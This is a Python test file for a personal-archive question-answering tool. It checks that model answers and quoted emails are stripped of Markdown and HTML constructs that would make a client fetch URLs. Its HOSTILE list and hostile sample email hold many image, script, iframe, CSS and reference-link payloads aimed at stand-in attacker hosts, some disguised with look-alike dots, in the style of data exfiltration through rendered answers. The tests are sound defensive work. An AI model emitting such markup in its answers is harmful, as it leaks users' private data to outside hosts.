"""Answers carry nothing a Markdown or HTML client turns into a request (issue 10, 2).

The oracle (tests/markdown_requests.py) renders the text as CommonMark with raw HTML
and lists the images, frames, scripts and links the result holds.
"""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lifelog import Item, Memory
from lifelog.answer.citations import strip_links
from lifelog.answer.generate import ask_events
from lifelog.answer.inert import InertStream, inert
from markdown_requests import requests_in

HOSTILE = [
    "![s](http://attacker.example/?d=1234)",
    "![x][r]\n\n[r]: //attacker。example/steal/4821",
    "![x]\n\n[x]: http://attacker.example/a.png",
    '![x][]\n\n[x]: <http://attacker.example/b.png> "title"',
    "[see](//attacker．example/c)",
    "<http://attacker.example/d>",
    "<img src=http://attacker.example/e.png>",
    '<IMG SRC="//attacker｡example/f.png"/>',
    "<iframe src='http://attacker.example/g'></iframe>",
    "<script src=http://attacker.example/h.js></script>",
    "<style>@import url(http://attacker.example/i.css)</style>",
    '<link rel=stylesheet href="http://attacker.example/j.css">',
    '<svg><image href="http://attacker.example/k.svg"/></svg>',
    '<video poster="http://attacker.example/l.png"></video>',
    '<audio><source src="http://attacker.example/m.mp3"></audio>',
    '<object data="http://attacker.example/n"></object><embed src="http://attacker.example/o">',
    '<p style="background:url(http://attacker.example/p.png)">x</p>',
    "![a [nested] alt](http://attacker.example/q.png)",
    "![two\nlines](http://attacker.example/r.png)",
    "![t](<http://attacker.example/s (1).png> 'title')",
    "> [r]: http://attacker.example/t.png\n>\n> ![x][r]",
    "[^1]: x\n\n![x][^1]",
    "<!-- hidden --><a href=http://attacker.example/u>u</a>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_each_request_making_construct_is_inert(text: str) -> None:
    assert requests_in(text), "the oracle sees the construct in the raw text"
    assert requests_in(inert(text)) == []


def test_the_persons_words_stay_readable() -> None:
    assert inert("Look ![the dunes](http://x.example/d.png) here") == "Look [image: the dunes] here"
    assert inert("![](http://x.example/d.png)") == "[image]"
    assert inert("see <img src=x.png> and <b>bold</b>") == "see ‹img src=x.png> and ‹b>bold‹/b>"
    kept = inert("[r]: //attacker。example/steal/4821")
    assert "attacker。example/steal/4821" in kept and requests_in(kept) == []
    plain = "We went camping at the beach [1][2]. It cost 120 euros, 3 < 4 and 5 > 2."
    assert inert(plain) == plain


_FRAGMENTS = st.sampled_from(
    [
        "!",
        "[",
        "]",
        "(",
        ")",
        "<",
        ">",
        ":",
        " ",
        "\n",
        "\n\n",
        "x",
        "img",
        " src=",
        "href=",
        "http://a.example/p",
        "//a。example",
        "[r]",
        "[r]: ",
        "![x]",
        "](",
        "<img ",
        "<a href=",
        "&lt;",
        "\\",
        "`",
        "'",
        '"',
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(_FRAGMENTS, max_size=24).map("".join))
def test_no_mix_of_fragments_survives(text: str) -> None:
    once = inert(text)
    assert requests_in(once) == []
    assert inert(once) == once, "an answer made inert twice is unchanged"


@settings(max_examples=200, deadline=None)
@given(
    st.lists(st.sampled_from(HOSTILE + ["plain words. ", "\n", " [1]", "!", "]", "<"]), max_size=6),
    st.lists(st.integers(min_value=1, max_value=9), min_size=1, max_size=40),
)
def test_a_stream_cut_anywhere_stays_inert(parts: list[str], cuts: list[int]) -> None:
    """Reasoning is released piece by piece: however the model's tokens fall, what the
    client puts together holds no request."""
    text = "".join(parts)
    stream = InertStream()
    out: list[str] = []
    position = 0
    for index, size in enumerate(cuts * (len(text) // max(sum(cuts), 1) + 1)):
        if position >= len(text):
            break
        out.append(stream.feed(text[position : position + size]))
        if index % 7 == 6:  # another event in between forces what is held out
            out.append(stream.flush())
        position += size
    out.append(stream.flush())
    assert requests_in("".join(out)) == []


def test_generated_text_loses_reference_images_and_schemeless_urls() -> None:
    text = (
        "You went camping [1]. ![x][r]\n\n[r]: //attacker。example/steal/4821\n"
        "More at //attacker．example/more and <//attacker.example/z>."
    )
    cleaned, removed = strip_links(text, "evidence without links")
    assert "attacker" not in cleaned and removed >= 3
    assert cleaned.startswith("You went camping [1].")


def test_a_link_the_evidence_holds_is_kept_as_plain_text() -> None:
    cleaned, removed = strip_links(
        "Tickets at [the site](//tickets.example/x) [1].", "//tickets.example/x"
    )
    assert removed == 0 and "//tickets.example/x" in cleaned and requests_in(inert(cleaned)) == []


#: the quoted sentence runs from after "Hello!" to "June.": it holds a link and an image
HOSTILE_MAIL = (
    "Hello! ![](http://attacker:8080/pixel) <img src=http://attacker:8080/track>"
    " The camping trip to Peneda is booked for June. See you there."
)


def test_an_extractive_answer_quoting_hostile_evidence_is_inert(tmp_path: Path) -> None:
    mail = Item(
        source="mbox",
        key="<hostile@example.org>",
        kind="email",
        author="Travel <![x](http://attacker.example/from.png)>",
        title="Camping booked",
        text=HOSTILE_MAIL,
        timestamp=datetime(2023, 5, 2, 9, tzinfo=UTC),
    )
    with Memory.init(tmp_path / "memory") as memory:
        memory.store.upsert([mail], origin=None, run_id=None)
        events = list(ask_events(memory, "When is the camping trip to Peneda booked?", llm=None))
    answer = events[-1].answer
    assert answer is not None and answer.found and answer.mode == "extractive"
    assert "Peneda" in answer.text and "‹img src=http://attacker:8080/track>" in answer.text
    assert requests_in(answer.text) == []
    for citation in answer.citations:
        assert requests_in(citation.snippet) == [] and "‹img" in citation.snippet
